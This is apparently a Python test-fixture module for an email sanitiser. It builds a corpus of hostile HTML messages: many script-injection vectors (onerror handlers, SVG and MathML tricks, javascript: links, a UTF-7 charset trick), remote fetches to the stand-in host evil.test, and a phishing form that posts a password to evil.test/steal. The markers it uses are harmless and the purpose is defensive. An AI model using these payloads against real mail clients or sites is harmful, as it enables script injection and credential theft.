# ruff: noqa: E501  (the corpus reads best one message a line)
"""Our corpus of hostile HTML mail: script in every disguise, SVG and MathML
tricks, CSS that fetches or overlays, forms, meta refresh, base, srcset,
@import, and malformed MIME. Each entry is a whole message (bytes), so the
same corpus serves the sanitiser's unit tests and the browser tests."""

from __future__ import annotations

# (name, the HTML body). "PWNED" marks what must never run; "evil.test" what
# must never be fetched.
HTML: list[tuple[str, str]] = [
    ("script-tag", "<p>hi</p><script>window.PWNED=1;alert(1)</script>"),
    ("script-uppercase", "<SCRIPT>window.PWNED=1</SCRIPT>"),
    ("script-split", "<scr<script>ipt>window.PWNED=1</scr</script>ipt>"),
    ("img-onerror", '<img src="x" onerror="window.PWNED=1">'),
    ("body-onload", '<body onload="window.PWNED=1"><p>x</p></body>'),
    ("svg-onload", '<svg onload="window.PWNED=1"><circle r="5"/></svg>'),
    ("svg-script", "<svg><script>window.PWNED=1</script></svg>"),
    ("svg-foreignobject", '<svg><foreignObject><iframe src="javascript:window.PWNED=1"></iframe></foreignObject></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName="href" to="javascript:window.PWNED=1"/><text y="20">x</text></a></svg>'),
    ("svg-use-remote", '<svg><use href="http://evil.test/sprite.svg#x"/></svg>'),
    ("math-xlink", '<math><mtext><a xlink:href="javascript:window.PWNED=1">x</a></mtext></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=window.PWNED=1>"),
    ("javascript-link", '<a href="javascript:window.PWNED=1">click</a>'),
    ("javascript-entity-link", '<a href="jav&#x61;script:window.PWNED=1">click</a>'),
    ("javascript-tab-link", '<a href="java\tscript:window.PWNED=1">click</a>'),
    ("data-link", '<a href="data:text/html,<script>window.PWNED=1</script>">click</a>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.PWNED=1</script>"></iframe>'),
    ("iframe-remote", '<iframe src="http://evil.test/frame"></iframe>'),
    ("object-embed", '<object data="http://evil.test/x.swf"></object><embed src="http://evil.test/y">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/">'),
    ("base-href", '<base href="http://evil.test/"><img src="tracker.png"><a href="page">x</a>'),
    ("link-stylesheet", '<link rel="stylesheet" href="http://evil.test/s.css">'),
    ("style-import", '<style>@import url("http://evil.test/i.css");</style><p>x</p>'),
    ("style-background", '<style>body{background:url(http://evil.test/bg.png)}</style>'),
    ("inline-background-url", '<div style="background-image:url(http://evil.test/b.png)">x</div>'),
    ("inline-position-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white">Your session expired, sign in again</div>'),
    ("css-expression", '<div style="width:expression(window.PWNED=1)">x</div>'),
    ("moz-binding", '<div style="-moz-binding:url(http://evil.test/xbl)">x</div>'),
    ("remote-image", '<img src="http://evil.test/pixel.gif" width="1" height="1">'),
    ("remote-image-https", '<img src="https://evil.test/pixel.gif">'),
    ("srcset", '<img src="cid:ok@x" srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x">'),
    ("picture-source", '<picture><source srcset="http://evil.test/p.png"><img src="cid:ok@x"></picture>'),
    ("background-attribute", '<table background="http://evil.test/t.png"><tr><td background="http://evil.test/c.png">x</td></tr></table>'),
    ("video-poster", '<video poster="http://evil.test/poster.png"><source src="http://evil.test/v.mp4"></video>'),
    ("audio", '<audio src="http://evil.test/a.mp3" autoplay></audio>'),
    ("form-phish", '<form action="http://evil.test/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>'),
    ("input-autofocus", '<input autofocus onfocus="window.PWNED=1">'),
    ("details-ontoggle", '<details open ontoggle="window.PWNED=1"><summary>x</summary></details>'),
    ("template-content", "<template><script>window.PWNED=1</script></template>"),
    ("noscript-trick", '<noscript><p title="</noscript><img src=x onerror=window.PWNED=1>"></noscript>'),
    ("comment-trick", '<!--<img src="--><img src=x onerror=window.PWNED=1>-->'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("dns-prefetch", '<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="http://evil.test">'),
    ("font-face", "<style>@font-face{font-family:x;src:url(http://evil.test/f.woff)}</style>"),
    ("ping-attribute", '<a href="https://example.org/" ping="http://evil.test/ping">x</a>'),
    ("formaction", '<button formaction="javascript:window.PWNED=1">x</button>'),
]


def message(name: str, html: str) -> bytes:
    """A multipart/alternative message carrying the HTML."""
    return (
        "From: Mallory <mallory@evil.test>\r\n"
        "To: bob@hamburger.edu\r\n"
        f"Subject: hostile {name}\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n'
        "\r\n"
        "--b1\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        f"plain text of {name}\r\n"
        "--b1\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n"
        "--b1--\r\n"
    ).encode()


# Malformed MIME and giant headers, as raw messages.
RAW: list[tuple[str, bytes]] = [
    (
        "unterminated-multipart",
        b"From: m@evil.test\r\nSubject: broken\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n"
        b"--zz\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=window.PWNED=1>\r\n",
    ),
    (
        "giant-header",
        b"From: m@evil.test\r\nSubject: " + b"A" * 200_000 + b"\r\nContent-Type: text/html\r\n\r\n"
        b"<script>window.PWNED=1</script><p>x</p>\r\n",
    ),
    (
        "html-as-plain-with-charset-trick",
        b"From: m@evil.test\r\nContent-Type: text/html; charset=utf-7\r\n\r\n"
        b"+ADw-script+AD4-window.PWNED=1+ADw-/script+AD4-\r\n",
    ),
    (
        "nested-alternative-depth",
        b"From: m@evil.test\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n"
        b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"PHNjcmlwdD53aW5kb3cuUFdORUQ9MTwvc2NyaXB0Pg==\r\n--b--\r\n--a--\r\n",
    ),
]


def corpus() -> list[tuple[str, bytes]]:
    """Every hostile message: (name, bytes)."""
    return [(name, message(name, html)) for name, html in HTML] + RAW
